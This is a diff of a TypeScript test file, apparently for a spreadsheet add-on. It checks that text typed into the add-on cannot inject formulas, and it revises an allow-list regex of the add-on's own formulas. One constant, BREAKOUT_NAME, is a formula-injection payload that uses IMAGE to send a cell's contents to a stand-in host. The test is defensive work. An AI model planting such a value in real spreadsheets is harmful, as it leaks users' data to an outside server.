@@ -27,11 +27,15 @@ const PAYLOADS = [
 const BREAKOUT_NAME = '"),IMAGE("https://x.example/?"&A1),("';
 
 /**
- * The formulas the add-on builds itself: live counts over its named ranges, its links and the
- * Overview's totals. Any other formula in a generated cell came from something typed.
+ * The formulas the add-on builds itself: live counts over a client's cells (A1 references into
+ * its tab), the client index's marks and their formula text, its links and the Overview's
+ * totals. Any other formula in a generated cell came from something typed.
  */
-const ADDON_FORMULA =
-  /^=(HYPERLINK\("#gid=\d+(&range=A\d+)?",|HYPERLINK\("https:\/\/docs\.google\.com\/spreadsheets\/d\/[\w-]+[^"]*","Shared view"\)$|ROWS\(CTOR_|COUNTA\(CTOR_|"\d+\|"&CTOR_\d+_name(&CHAR\(30\)&CTOR_\d+_status)?$|CTOR_\d+_\w+$|CTOR_CapacityHours$|IFERROR\(INDEX\(CTOR_DecisionLog_Median,MATCH\("\d+",CTOR_DecisionLog_Client,0\)\),""\)$|COUNTIFS\(CTOR_|IF\(COUNT\(CTOR_|IF\(E\d+="","",DAYS\(TODAY\(\),E\d+\)\)$|SUM\(D\d+:D\d+\)$|F\d+-D\d+$)/;
+/** A reference into a client's tab, its name quoted or not, as the engine prints it. */
+const REF = String.raw`(?:'(?:[^']|'')*'|[^'!&(),]+)!\$[A-Z]+\$\d+(?::\$[A-Z]+\$\d+)?`;
+const ADDON_FORMULA = new RegExp(
+  String.raw`^=(HYPERLINK\("#gid=\d+(&range=A\d+)?",|HYPERLINK\("https:\/\/docs\.google\.com\/spreadsheets\/d\/[\w-]+[^"]*","Shared view"\)$|"\d+\|"&${REF}&CHAR\(30\)&${REF}$|${REF}$|FORMULATEXT\(R\d+\)&LEFT\(NOW\(\),0\)$|CTOR_CapacityHours$|IFERROR\(INDEX\(CTOR_DecisionLog_Median,MATCH\("\d+",CTOR_DecisionLog_Client,0\)\),""\)$|COUNTIFS\(${REF},|IF\(COUNT\(${REF}\)|IF\(E\d+="","",DAYS\(TODAY\(\),E\d+\)\)$|SUM\(D\d+:D\d+\)$|F\d+-D\d+$)`,
+);
 
 function formulasOf(file: Workbook, sheet: SheetData): string[] {
   const out: string[] = [];
